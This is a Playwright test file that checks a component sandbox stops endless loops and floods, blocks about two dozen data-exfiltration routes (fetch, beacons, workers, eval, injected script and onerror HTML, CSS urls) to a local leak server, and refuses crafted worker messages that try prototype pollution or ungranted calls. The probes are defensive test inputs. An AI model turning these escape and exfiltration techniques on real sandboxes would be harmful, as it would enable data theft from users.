import type { Page } from "@playwright/test";
import { expect, test } from "../harness/productTest.ts";
import { signIn } from "../harness/signInPage.ts";
import { foreignWorker, type RawCall } from "./foreignWorker.ts";
import { startLeakServer } from "./leakServer.ts";
import { showComponents, watchGaps } from "./showComponents.ts";

test.use({ isTabKept: true });

const fine = `
import { useState } from "react";
export default () => { const [n, set] = useState(0); return <button onClick={() => set(n + 1)}>alive {n}</button>; };`;

/** Each loops as soon as it is there. */
const endless: Readonly<Record<string, string>> = {
  Rendering: "export default () => { for (;;); };",
  Module: "for (;;); export default () => null;",
};

/** Each loops when its button is pressed. */
const pressed: Readonly<Record<string, string>> = {
  Click: "export default () => <button onClick={() => { for (;;); }}>start Click</button>;",
  Microtasks: "const spin = async () => { while (true) await 0; }; export default () => <button onClick={() => void spin()}>start Microtasks</button>;",
};

const floods: Readonly<Record<string, string>> = {
  Operations: `import { useEffect, useRef } from "react";
    export default () => { const text = useRef(null); useEffect(() => { for (let i = 0; i < 30000; i += 1) text.current.firstChild.data = String(i); }, []); return <p ref={text}>x</p>; };`,
  Calls: `import { tables } from "@platon/sdk";
    import { useEffect } from "react";
    export default () => { useEffect(() => { for (let i = 0; i < 100000; i += 1) void tables.config("countries"); }, []); return <b>x</b>; };`,
  Levels: `export default () => { let tree = <i />; for (let i = 0; i < 500; i += 1) tree = <b>{tree}</b>; return tree; };`,
};

const componentsOf = (scripts: Readonly<Record<string, string>>) => Object.entries(scripts).map(([name, script]) => ({ name, scripts: [script] }));

const ended = (page: Page, name: string) => page.locator("[data-reason=ended], [data-reason=quarantined]").filter({ hasText: name });

/** What stands beside a culprit begins again in another realm, and may do so under the press. */
async function expectAlive(page: Page): Promise<void> {
  await expect(async () => {
    await page.getByText(/^alive \d$/).click({ timeout: 2_000 });
    await expect(page.getByText(/^alive [1-9]$/)).toBeVisible({ timeout: 2_000 });
  }).toPass();
}

test("S85 rendering, a module, a click and microtasks without an end are stopped, and the rest of the page goes on", async ({ page, expectProblems }) => {
  expectProblems([/the realm was ended: hang/]);
  await showComponents(page, [{ name: "Fine", scripts: [fine] }, ...componentsOf({ ...endless, ...pressed })]);
  const startGap = await watchGaps(page);
  for (const name of Object.keys(endless)) await expect(ended(page, name)).toContainText("Компонент тўхтатилди");
  // A loop lasts 500 ms at run time and 1,500 ms while it starts (X8): were the page blocked, so would its gap.
  expect(await startGap()).toBeLessThan(1_500);
  for (const name of Object.keys(pressed)) {
    const start = page.getByText(`start ${name}`);
    await start.waitFor();
    const gap = await watchGaps(page);
    await start.click();
    await expect(ended(page, name)).toBeVisible();
    expect(await gap()).toBeLessThan(500);
  }
  await expectAlive(page);
});

test("S85 floods of operations, of SDK calls and of levels are stopped, and the rest of the page goes on", async ({ page, expectProblems }) => {
  expectProblems([/Operations: |Calls: |Levels: /, /status of (404|429|403)/]);
  await showComponents(page, [{ name: "Fine", scripts: [fine] }, ...componentsOf(floods)]);
  const longestGap = await watchGaps(page);
  for (const name of Object.keys(floods)) await expect(ended(page, name)).toBeVisible({ timeout: 20_000 });
  // Unguarded, such floods blocked the page for 2.7 and 4.8 seconds.
  expect(await longestGap()).toBeLessThan(1_000);
  await expectAlive(page);
});

/** Every way out that is known; each leaves a mark of its own in the address. */
const probes = (origin: string): string => `
const at = (name) => "${origin}/leak-" + name;
const tries = {
  fetch: () => fetch(at("fetch")),
  fetchNoCors: () => fetch(at("nocors"), { mode: "no-cors" }),
  fetchKeepalive: () => fetch(at("keepalive"), { keepalive: true, method: "POST", body: "x" }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", at("xhr")); x.send(); },
  websocket: () => new WebSocket(at("ws").replace("http", "ws")),
  eventSource: () => new EventSource(at("es")),
  webTransport: () => new WebTransport(at("wt").replace("http:", "https:")),
  beacon: () => navigator.sendBeacon(at("beacon"), "x"),
  importUrl: () => import(at("import")),
  importData: () => import("data:text/javascript,fetch('" + at("importdata") + "')"),
  importScripts: () => importScripts(at("importscripts")),
  worker: () => new Worker(at("worker")),
  blobWorker: () => new Worker(URL.createObjectURL(new Blob(["fetch('" + at("blobworker") + "')"]))),
  sharedWorker: () => new SharedWorker(at("shared")),
  serviceWorker: () => navigator.serviceWorker.register(at("sw")),
  font: () => new FontFace("x", "url(" + at("font") + ")").load(),
  rtc: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }),
  evalFetch: () => eval("fetch('" + at("eval") + "')"),
  functionFetch: () => new Function("fetch('" + at("function") + "')")(),
  caches: () => caches.open("x").then((c) => c.add(at("caches"))),
  indexedDb: () => indexedDB.open("x"),
  broadcast: () => new BroadcastChannel("x"),
  location: () => { location.href = at("location"); },
  parentPost: () => parent.postMessage("x", "*"),
  opener: () => opener.postMessage("x", "*"),
};
const answers = {};
for (const [name, run] of Object.entries(tries)) {
  try { const got = run(); answers[name] = typeof got; if (got && got.catch) got.catch(() => undefined); } catch (failure) { answers[name] = failure.name; }
}`;

test("S86 no way out of a realm reaches a server", async ({ page, server, expectProblems }) => {
  expectProblems([/Content Security Policy|\[csp\]|Refused to|violates|ERR_|Failed to|Probe|blocked/i]);
  const leak = await startLeakServer();
  try {
    // A request that the policy refuses is begun and never answered.
    const answered: string[] = [];
    page.on("response", (response) => answered.push(response.url()));
    const script = (origin: string): string => `${probes(origin)}
      export default () => <div>
        <img src={at("img")} /><img src="//127.0.0.1/leak-img2" /><a href={at("a")} ping={at("ping")}>a</a>
        <form action={at("form")}><button formAction={at("formaction")}>send</button></form>
        <link rel="stylesheet" href={at("link")} /><iframe src={at("iframe")} /><object data={at("object")} /><embed src={at("embed")} />
        <video src={at("video")} poster={at("poster")} /><svg><image href={at("svgimage")} /><use href={at("use") + "#a"} /></svg>
        <p style={{ background: "url(" + at("style") + ")" }} dangerouslySetInnerHTML={{ __html: "<img src=" + at("html") + " onerror=alert(1)><script>fetch('" + at("htmlscript") + "')</scr" + "ipt>" }} />
        <output>{Object.keys(answers).length}</output></div>;`;
    const css = `p { background: url(${leak.origin}/leak-css); } @import "${leak.origin}/leak-import";`;
    await showComponents(page, [
      { name: "Probe", scripts: [script(leak.origin)], css },
      { name: "Probe2", scripts: [script(server.url)], css },
    ]);
    await expect(page.locator("[data-platon-box] output")).toHaveText(["25", "25"]);
    await page.getByText("send").first().click();
    await page.waitForTimeout(1_500);
    expect(leak.seen).toEqual([]);
    // The product's own pictures are no way out: their address may be written whole.
    const own = ["img", "html"].map((name) => `${server.url}/leak-${name}`);
    expect(answered.filter((url) => url.includes("leak-") && !own.includes(url))).toEqual([]);
    // The other side of the proof: from outside the server is reached.
    await (await fetch(`${leak.origin}/leak-control`)).text();
    expect(leak.seen).toEqual(["/leak-control"]);
  } finally {
    await leak.close();
  }
});

const raw = (value: unknown): unknown => ({ type: "RAW", value });

const refusedCalls: RawCall[] = [
  ...["GET", "SET", "CONSTRUCT", "ENDPOINT", "PROXY"].flatMap((type) =>
    [[], ["tables"], ["tables", "rows"], ["__proto__", "polluted"], ["constructor", "prototype"], ["storage", "set"]].map((path) => ({
      sent: { id: `${type}-${path.join(".")}`, type, path, value: raw(1), argumentList: [] },
    })),
  ),
  ...[[], ["tables"], ["tables", "constructor"], ["tables", "rows", "call"], ["session", "signOut"], ["http", "call"], ["toString", "call"]].map((path) => ({
    sent: { id: `APPLY-${path.join(".")}`, type: "APPLY", path, argumentList: [raw("countries")] },
  })),
  { sent: { id: "proxy", type: "APPLY", path: ["tables", "config"], argumentList: [{ type: "HANDLER", name: "proxy", value: {} }] } },
  { sent: { id: "nine", type: "APPLY", path: ["tables", "config"], argumentList: Array.from({ length: 9 }, () => raw("countries")) } },
];

/** Gives the host a realm program of the test's in place of ours; everything else is the product. */
async function replaceGuest(page: Page, program: string): Promise<void> {
  await page.route(/\/assets\/guestProgram-[^/]+\.js$/, async (route) => {
    const body = await (await route.fetch()).text();
    const name = /export\{(\w+) as guestProgram\}/.exec(body)?.[1];
    if (!name) throw new Error("the chunk of the realm's program has another shape");
    await route.fulfill({ contentType: "text/javascript", body: `const ${name}=${JSON.stringify(program)};export{${name} as guestProgram};` });
  });
}

test("S87 raw messages of a worker without our guest run nothing but granted methods", async ({ page, expectProblems }) => {
  expectProblems([/a call was refused/]);
  const granted = { sent: { id: "granted", type: "APPLY", path: ["tables", "config"], argumentList: [raw("countries")] } };
  await replaceGuest(page, foreignWorker([...refusedCalls, granted], ""));
  // The screen that shows each call as the gate saw it.
  await signIn(page, "admin", { next: "/demo/test-dynamic-components" });
  const answers = JSON.parse((await page.locator("pre.answers").textContent()) ?? "[]") as { id: string; type: string }[];
  for (const { sent } of refusedCalls) {
    const { id } = sent as { id: string };
    expect(answers.find((answer) => answer.id === id)).toMatchObject({ type: "HANDLER", name: "throw" });
  }
  expect(answers.find(({ id }) => id === "granted")).toMatchObject({ type: "RAW", value: { name: "countries" } });
  const log = await page.locator("[data-call]").evaluateAll((lines) => lines.map(({ dataset: { call, outcome } }) => ({ call, outcome })));
  expect(log.filter(({ outcome }) => outcome !== "refused")).toEqual([{ call: "tables.config", outcome: "done" }]);
  expect(log).toHaveLength(refusedCalls.length + 1);
  const prototype = await page.evaluate(() => [Object.keys(Object.prototype), ({} as Record<string, unknown>)["polluted"] ?? null]);
  expect(prototype).toEqual([[], null]);
  await expect(page.locator("pre.answers")).not.toHaveAttribute("onclick");
  await expect(page.locator("[data-platon-box] script")).toHaveCount(0);
  await expect(page.locator("[data-platon-refused=script]")).toHaveCount(1);
});

/** What else no guest says, and that only who spoke is blamed for it: S370. */
test("S87 an object from a worker without our guest ends the realm", async ({ page, expectProblems }) => {
  expectProblems([/the realm was ended: protocol/]);
  await replaceGuest(page, foreignWorker([], `port.postMessage({ kind: "batch", operations: [] });`));
  await showComponents(page, [{ name: "Any", scripts: ["export default () => null;"] }]);
  await expect(page.locator("[data-reason=ended], [data-reason=quarantined]")).toBeVisible();
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
});
